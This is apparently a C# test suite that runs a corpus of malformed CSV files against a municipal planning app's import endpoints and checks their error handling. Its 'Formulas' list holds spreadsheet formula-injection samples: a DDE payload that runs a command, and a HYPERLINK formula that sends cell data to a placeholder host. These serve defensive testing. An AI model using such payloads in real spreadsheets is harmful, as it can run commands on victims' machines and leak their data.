using System.Net;
using System.Reflection;
using System.Text;
using System.Text.Json;
using Metropoli.Tests.Infrastructure;
using Metropoli.Tests.Modules.StrategicPlan;
using Metropoli.Tests.Unit;
using Metropoli.Agreements.Model;
using Metropoli.StrategicPlan.Model;
using Metropoli.Territory.Model;
using Metropoli.Platform.Data;
using Microsoft.EntityFrameworkCore;

namespace Metropoli.Tests.Reliability;

/// <summary>One CSV import of the app, as the corpus sees it: where to post, the header, a good row
/// (its key made from <c>n</c>, its free-text column holding an already CSV-encoded cell), a row with a bad
/// value, how many rows of its kind the database holds and the free texts stored.</summary>
public sealed record CsvImport(string Name, Type Handler, string Url, string Header, Func<int, string, string> Row, Func<int, string> BadRow,
    Func<AppDbContext, Task<int>> Count, Func<AppDbContext, Task<List<string?>>> Texts);

/// <summary>A plan of its own (for the structure import) and a monthly indicator in another (for the
/// measurements import), so that every corpus file starts from known counts.</summary>
public sealed class CsvCorpusFixture : AppFixture
{
    public long StructurePlan { get; private set; }
    public long MeasurementPlan { get; private set; }
    public string IndicatorCode { get; private set; } = "";
    private int _next;

    /// <summary>A fresh key number for each row a test writes.</summary>
    public int Next() => Interlocked.Increment(ref _next);

    public override async Task InitializeAsync()
    {
        await base.InitializeAsync();
        var office = await As(Demo.PlanOffice);
        StructurePlan = await PlanBuilders.CreatePlanAsync(office);
        var tree = await PlanBuilders.CreateTreeAsync(office);
        MeasurementPlan = tree.PlanId;
        IndicatorCode = "HOST1";
        await (await office.PostAsync("/api/v1/indicators", Http.JsonBody(new
        {
            actionId = tree.ActionId, code = IndicatorCode, name = "Indicatore del corpus", unit = "numero", direction = "increase",
            baselineValue = 1, baselineYear = 1999, frequency = "monthly", source = "Prova", targets = new[] { new { year = 2031, value = 100 } },
        }))).ShouldBe(HttpStatusCode.Created);
    }

    /// <summary>Every CSV import of the app (API, page and CLI share each handler).</summary>
    public IReadOnlyList<CsvImport> Imports() =>
    [
        new("organisations", typeof(global::Metropoli.Territory.Organisations.ImportOrganisations), "/api/v1/organizations/import",
            "name,type,fiscal_code,city",
            (n, text) => $"{text},foundation,{PartitaIvaTests.RandomValid(new Random(n))},Milano",
            n => $"Ente {n},tipo-inesistente,{PartitaIvaTests.RandomValid(new Random(n))},Milano",
            db => db.Set<Organisation>().CountAsync(),
            db => db.Set<Organisation>().Select(o => (string?)o.Name).ToListAsync()),
        new("plan structure", typeof(global::Metropoli.StrategicPlan.Import.ImportPlanStructure), $"/api/v1/plans/{StructurePlan}/import",
            "area_code,area_title,objective_code,objective_title,action_code,action_title,owner_sector,start_date",
            (n, text) => $"H1,Area del corpus,H1.1,Obiettivo del corpus,H1.1.{n},{text},ambiente,2031-01-01",
            n => $"H1,Area del corpus,H1.1,Obiettivo del corpus,H1.1.{n},Azione {n},ambiente,2031-13-01",
            db => db.Set<PlanAction>().CountAsync(a => a.PlanId == StructurePlan),
            db => db.Set<PlanAction>().Where(a => a.PlanId == StructurePlan).Select(a => (string?)a.Title).ToListAsync()),
        new("agreements", typeof(global::Metropoli.Agreements.Import.ImportAgreements), "/api/v1/agreements/import",
            "number,title,type,parties",
            (n, text) => $"HOST-{n},{text},protocol,Comune di Rho",
            n => $"HOST-{n},Intesa {n},tipo-inesistente,Comune di Rho",
            db => db.Set<Agreement>().CountAsync(),
            db => db.Set<Agreement>().Select(a => (string?)a.Title).ToListAsync()),
        new("measurements", typeof(global::Metropoli.StrategicPlan.Measurements.ImportMeasurements), $"/api/v1/measurements/import?plan={MeasurementPlan}",
            "indicator_code,period,value,note",
            (n, text) => $"{IndicatorCode},{2000 + n / 12}-{n % 12 + 1:00},{n}.5,{text}",
            n => $"{IndicatorCode},{2000 + n / 12}-{n % 12 + 1:00},dieci,nota",
            db => db.Set<Measurement>().CountAsync(m => db.Set<Indicator>().Any(i => i.Id == m.IndicatorId && i.PlanId == MeasurementPlan)),
            db => db.Set<Measurement>().Where(m => db.Set<Indicator>().Any(i => i.Id == m.IndicatorId && i.PlanId == MeasurementPlan)).Select(m => m.Note).ToListAsync()),
    ];
}

/// <summary>CSV cell and file helpers shared by the import corpus and the export checks.</summary>
public static class CsvText
{
    /// <summary>RFC 4180: quoted when it holds a comma, a quote or a line break.</summary>
    public static string Cell(string s) => s.IndexOfAny([',', '"', '\n', '\r']) >= 0 ? "\"" + s.Replace("\"", "\"\"") + "\"" : s;

    public static readonly Encoding Windows1252 = CodePagesEncodingProvider.Instance.GetEncoding(1252)!;

    /// <summary>The cells of a downloaded CSV (BOM dropped), read with the same RFC 4180 parser the imports use.</summary>
    public static List<string[]> Parse(byte[] content)
    {
        var text = Encoding.UTF8.GetString(content);
        return global::Metropoli.Platform.Api.CsvUpload.Records(text.TrimStart('\uFEFF')).Select(r => r.Fields).ToList();
    }
}

/// <summary>A corpus of bad (and good) CSV files, run against every import. Each file says what it
/// expects: imported with the right values (a good control, and the variants the imports accept: BOM,
/// CRLF and blank lines, quoted line breaks, formula-looking text kept as text), or refused with a
/// problem+json 422 whose errors name exactly the bad lines (file-level problems carry no line), and the
/// database unchanged.</summary>
// On PostgreSQL too: bad CSV (NUL, encodings, huge cells) meets each provider's text types, in one transaction.
[Trait("Database", "Both")]
public sealed class CsvImportCorpusTests(CsvCorpusFixture fx) : IClassFixture<CsvCorpusFixture>
{
    /// <summary>What a corpus file should do: import these texts, or be refused naming these lines (none: the file as a whole).</summary>
    public sealed record Expect(string[]? ImportedTexts, int[]? RejectedLines, string? MessageContains = null);

    public sealed record CorpusFile(byte[] Content, Expect Expect);

    private const string Huge = "huge";
    public static readonly string[] Formulas = ["=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3", "@A1", "=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")"];

    /// <summary>The corpus: each file is built for one import from its header and rows.</summary>
    public static readonly Dictionary<string, Func<CsvImport, Func<int>, CorpusFile>> Corpus = new()
    {
        ["control"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Voce di controllo uno"), t.Row(next(), "Voce di controllo due")],
            Imported("Voce di controllo uno", "Voce di controllo due")),
        ["bom"] = (t, next) => new([0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(Lines(t.Header, t.Row(next(), "Università con BOM")))], Imported("Università con BOM")),
        ["crlf and blank lines"] = (t, next) => new(Encoding.UTF8.GetBytes(t.Header + "\r\n\r\n" + t.Row(next(), "Riga CRLF") + "\r\n  \r\n" + t.Row(next(), "Dopo una riga vuota") + "\r\n"),
            Imported("Riga CRLF", "Dopo una riga vuota")),
        ["quoted newlines"] = (t, next) => Utf8(t.Header, [t.Row(next(), CsvText.Cell("Prima riga, con virgola\nseconda \"tra virgolette\"")), t.Row(next(), "Dopo")],
            Imported("Prima riga, con virgola\nseconda \"tra virgolette\"", "Dopo")),
        ["bad row after quoted newlines"] = (t, next) => Utf8(t.Header, [t.Row(next(), CsvText.Cell("Su\ndue righe")), t.Row(next(), "Buona"), t.Row(next(), "Un campo in più") + ",extra"],
            Rejected(5)), // lines 2-3, 4, then 5
        ["formula injection"] = (t, next) => Utf8(t.Header, [.. Formulas.Select(f => t.Row(next(), CsvText.Cell(f)))], Imported(Formulas)),
        ["windows-1252"] = (t, next) => new(CsvText.Windows1252.GetBytes(Lines(t.Header, t.Row(next(), "Prima"), t.Row(next(), "Università di Milano città"))),
            Rejected([3], "UTF-8")),
        ["semicolon delimiter"] = (t, next) => Utf8(t.Header.Replace(',', ';'), [t.Row(next(), "Voce").Replace(',', ';')], Rejected([1], "virgola (;)")),
        ["unterminated quote"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Buona"), t.Row(next(), "\"Aperta e mai chiusa"), t.Row(next(), "Dopo")], Rejected(3)),
        ["stray quote"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Buona"), t.Row(next(), "Virgolette \"a metà\" campo")], Rejected(3)),
        ["huge field"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Buona"), t.Row(next(), Huge)], Rejected(3)),
        ["duplicate keys"] = (t, next) =>
        {
            var n = next();
            return Utf8(t.Header, [t.Row(n, "Prima"), t.Row(next(), "Seconda"), t.Row(n, "Ripetuta")], Rejected([4], "riga 2"));
        },
        ["duplicate header column"] = (t, next) =>
        {
            var first = t.Header.Split(',')[0];
            return Utf8(t.Header + "," + first, [t.Row(next(), "Voce") + ",x"], Rejected([1], "ripetut"));
        },
        ["bad values among good rows"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Buona"), t.BadRow(next()), t.Row(next(), "Buona"), t.BadRow(next())], Rejected(3, 5)),
        ["wrong field count"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Buona"), string.Join(',', t.Row(next(), "Corta").Split(',').Skip(1))], Rejected(3)),
        ["nul byte"] = (t, next) => Utf8(t.Header, [t.Row(next(), "Buona"), t.Row(next(), "Con\0NUL")], Rejected([3], "NUL")),
        ["header only"] = (t, _) => Utf8(t.Header, [], Rejected()),
        ["empty file"] = (_, _) => new([], Rejected()),
        ["binary"] = (_, _) => new([0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0xFF, 0xFE, 0x00, 0x00], Rejected([1], "UTF-8")),
    };

    private static Expect Imported(params string[] texts) => new(texts, null);
    private static Expect Rejected(params int[] lines) => new(null, lines);
    private static Expect Rejected(int[] lines, string message) => new(null, lines, message);

    private static string Lines(string header, params string[] rows) => string.Concat(new[] { header }.Concat(rows).Select(l => l + "\n"));

    private static CorpusFile Utf8(string header, string[] rows, Expect expect) =>
        new(Encoding.UTF8.GetBytes(Lines(header, [.. rows.Select(r => r.Replace(Huge, new string('x', 120_000), StringComparison.Ordinal))])), expect);

    public static TheoryData<string, string> Cases()
    {
        var data = new TheoryData<string, string>();
        foreach (var import in new[] { "organisations", "plan structure", "agreements", "measurements" })
        {
            foreach (var file in Corpus.Keys) data.Add(import, file);
        }
        return data;
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Corpus_file(string importName, string fileName)
    {
        var import = fx.Imports().Single(i => i.Name == importName);
        var file = Corpus[fileName](import, fx.Next);
        var client = await fx.As(importName is "organisations" or "agreements" ? Demo.Admin : Demo.PlanOffice);
        var before = await fx.App.WithDb(import.Count);
        var beforeTexts = await fx.App.WithDb(import.Texts);

        var content = new ByteArrayContent(file.Content);
        content.Headers.TryAddWithoutValidation("Content-Type", "text/csv");
        using var response = await client.PostAsync(import.Url, content);
        var label = $"{importName} × «{fileName}»";

        if (file.Expect.ImportedTexts is { } texts)
        {
            var body = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{label}: expected 200, got {(int)response.StatusCode}: {body}");
            Assert.Equal(before + texts.Length, await fx.App.WithDb(import.Count));
            var added = (await fx.App.WithDb(import.Texts)).ToList();
            foreach (var old in beforeTexts) added.Remove(old);
            Assert.Equal(texts.Order(StringComparer.Ordinal), added.Order(StringComparer.Ordinal));
            return;
        }

        var problem = await response.ShouldBeProblem(422);
        var errors = problem.GetProperty("errors").EnumerateArray().ToList();
        Assert.NotEmpty(errors);
        Assert.All(errors, e => Assert.False(string.IsNullOrWhiteSpace(e.GetProperty("message").GetString()), $"{label}: an error without a message"));
        var lines = errors.Select(e => e.TryGetProperty("line", out var l) && l.ValueKind == JsonValueKind.Number ? l.GetInt32() : (int?)null)
            .Where(l => l is not null).Select(l => l!.Value).Distinct().Order().ToArray();
        Assert.True(file.Expect.RejectedLines!.SequenceEqual(lines),
            $"{label}: expected errors on lines [{string.Join(", ", file.Expect.RejectedLines!)}], got [{string.Join(", ", lines)}]: {problem.GetProperty("errors")}");
        if (file.Expect.MessageContains is { } words)
        {
            Assert.Contains(errors, e => e.GetProperty("message").GetString()!.Contains(words, StringComparison.OrdinalIgnoreCase));
        }
        Assert.Equal(before, await fx.App.WithDb(import.Count));
    }

    /// <summary>A new import handler must join the corpus: every <c>HandleAsync</c> that takes the file's bytes is listed.</summary>
    [Fact]
    public void Every_csv_import_handler_of_the_app_is_in_the_corpus()
    {
        var handlers = AppAssemblies.Types
            .Where(t => t.GetMethods(BindingFlags.Public | BindingFlags.Static).Any(m => m.Name == "HandleAsync" && m.GetParameters().Any(p => p.ParameterType == typeof(byte[]) && p.Name == "content")))
            .Select(t => t.FullName!).Order().ToList();
        Assert.Equal(handlers, fx.Imports().Select(i => i.Handler.FullName!).Order().ToList());
    }
}
